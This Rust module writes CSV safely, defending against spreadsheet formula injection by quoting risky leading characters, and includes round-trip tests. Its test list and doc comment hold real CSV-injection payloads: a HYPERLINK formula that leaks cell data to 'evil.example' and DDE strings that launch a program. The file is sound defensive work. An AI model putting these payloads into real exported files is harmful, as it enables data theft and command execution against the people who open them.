//! The one CSV writer, and the import's undoing of what it does.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (`=HYPERLINK(…)`
//! leaks data, `+cmd|' /C calc'!A0` runs a program), and some read a leading tab or carriage return
//! the same way. As OWASP's CSV-injection guidance says, every such cell is written with a single
//! quote in front, which a spreadsheet shows as text. Phone numbers are no exception ("+44 1632 …"
//! would be read as a sum): the quote is the price of safety, and [`restore`] takes it off again on
//! import, so what is exported and imported again is exactly what was stored.
//!
//! Files get a UTF-8 byte-order mark, without which Excel reads "Siân" as "SiÃ¢n"; CSV on the
//! screen goes without unless asked for.

use std::borrow::Cow;

/// The byte-order mark Excel looks for to read a CSV file as UTF-8.
pub const BOM: &str = "\u{FEFF}";

/// Whether the CSV starts with a UTF-8 byte-order mark.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Bom {
    /// For a file a spreadsheet will open.
    With,
    /// For the screen or a pipe.
    Without,
}

/// The first characters a spreadsheet may act on.
fn risky(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// True when `cell`, once its leading quotes are set aside, starts with a risky character.
fn quoted_risky(cell: &str) -> bool {
    cell.trim_start_matches('\'')
        .chars()
        .next()
        .is_some_and(risky)
}

/// The cell as written: a single quote in front when a spreadsheet could run it. A cell that
/// already starts with quotes before a risky character gets one more, so [`restore`] gives back
/// exactly the text stored, whatever it was.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let needs = match cell.chars().next() {
        Some(c) if risky(c) => true,
        Some('\'') => quoted_risky(cell),
        _ => false,
    };
    if needs {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Undoes [`neutralise`] on a cell read back from CSV: `'+44 1632 960 771` is `+44 1632 960 771`
/// again. A quote before ordinary text ("'tis") is the text's own and stays.
pub fn restore(cell: &str) -> String {
    match cell.strip_prefix('\'') {
        Some(rest) if quoted_risky(rest) => rest.to_string(),
        _ => cell.to_string(),
    }
}

/// CSV text: the header row, then `rows`, every cell through [`neutralise`].
pub fn write<R, C>(header: &[&str], rows: R, bom: Bom) -> Result<Vec<u8>, String>
where
    R: IntoIterator,
    R::Item: IntoIterator<Item = C>,
    C: AsRef<str>,
{
    let mut out = Vec::new();
    if bom == Bom::With {
        out.extend_from_slice(BOM.as_bytes());
    }
    let mut w = csv::Writer::from_writer(out);
    let err = |e: csv::Error| format!("cannot write CSV: {e}");
    w.write_record(header.iter().map(|h| neutralise(h).into_owned()))
        .map_err(err)?;
    for row in rows {
        // Each cell borrowed unless neutralising changed it: no copy of every cell.
        let cells: Vec<C> = row.into_iter().collect();
        let safe: Vec<Cow<'_, str>> = cells.iter().map(|c| neutralise(c.as_ref())).collect();
        w.write_record(safe.iter().map(|c| c.as_bytes()))
            .map_err(err)?;
    }
    w.into_inner().map_err(|e| format!("cannot write CSV: {e}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    const ATTACKS: [&str; 9] = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "-1-1",
        "+1-1",
        "=1+1",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    #[test]
    fn every_cell_a_spreadsheet_could_run_starts_with_a_quote() {
        for attack in ATTACKS {
            assert_eq!(neutralise(attack), format!("'{attack}"), "{attack:?}");
        }
        // Phone numbers too: "+44 …" is a formula to a spreadsheet.
        assert_eq!(neutralise("+44 1234 567890"), "'+44 1234 567890");
        for plain in ["Siân ap Dafydd", "", "O'Brien", "1-1", "a=b", "'tis"] {
            assert_eq!(neutralise(plain), plain);
        }
    }

    #[test]
    fn restore_gives_back_exactly_what_was_stored() {
        let mut all: Vec<String> = ATTACKS.iter().map(|s| s.to_string()).collect();
        all.extend(
            [
                "+44 1234 567890",
                "'=already quoted",
                "''+two quotes",
                "'tis",
                "'",
                "''",
                "O'Brien",
                "",
                "-",
            ]
            .map(String::from),
        );
        for value in all {
            assert_eq!(restore(&neutralise(&value)), value, "{value:?}");
        }
    }

    #[test]
    fn a_file_round_trips_through_a_csv_reader() {
        let rows = vec![
            vec!["Siân", "+44 1234 567890"],
            vec!["=HYPERLINK(\"x\",\"y\")", "@SUM(A1)"],
            vec!["line one\nline \"two\"", "-1-1"],
        ];
        let bytes = write(&["name", "phone"], &rows, Bom::With).unwrap();
        assert!(bytes.starts_with(BOM.as_bytes()));
        let text = String::from_utf8(bytes).unwrap();
        assert!(text.contains("'+44 1234 567890"));
        assert!(text.contains("'@SUM(A1)"));
        let mut reader = csv::Reader::from_reader(text.trim_start_matches(BOM).as_bytes());
        let back: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.unwrap().iter().map(restore).collect())
            .collect();
        let expected: Vec<Vec<String>> = rows
            .iter()
            .map(|r| r.iter().map(|s| s.to_string()).collect())
            .collect();
        assert_eq!(back, expected);
        let plain = write(&["name"], [["Siân"]], Bom::Without).unwrap();
        assert_eq!(plain, "name\nSiân\n".as_bytes());
    }
}
